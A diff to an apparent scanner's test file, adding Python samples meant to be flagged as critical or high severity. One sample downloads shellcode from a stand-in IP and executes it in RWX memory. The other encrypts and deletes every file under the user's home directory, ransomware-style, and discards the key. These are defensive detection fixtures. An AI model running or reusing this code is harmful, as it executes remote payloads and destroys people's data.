@@ -17,6 +17,34 @@ const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3
 
 const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
   {
+    name: 'shellcode downloaded, copied into RWX memory from libc.mmap and called through CFUNCTYPE',
+    least: 'critical',
+    rule: 'native-code',
+    source: `import ctypes, urllib.request
+buf = urllib.request.urlopen("http://198.51.100.4/sc.bin").read()
+libc = ctypes.CDLL("libc.so.6")
+mem = libc.mmap(0, len(buf), 7, 0x22, -1, 0)
+ctypes.memmove(mem, buf, len(buf))
+ctypes.CFUNCTYPE(None)(mem)()
+`,
+  },
+  {
+    name: 'ransomware: every file a recursive glob of home + "/**/*.*" finds is encrypted to a copy and removed',
+    least: 'high',
+    rule: 'destructive-file-ops',
+    source: `import glob, os
+from cryptography.fernet import Fernet
+f = Fernet(Fernet.generate_key())
+for path in glob.glob(os.path.expanduser("~") + "/**/*.*", recursive=True):
+    try:
+        data = open(path, "rb").read()
+        open(path + ".locked", "wb").write(f.encrypt(data))
+        os.remove(path)
+    except Exception:
+        pass
+`,
+  },
+  {
     name: 'exec reached through a conditional over two spellings of a builtin',
     least: 'critical',
     rule: 'encoded-payload-exec',
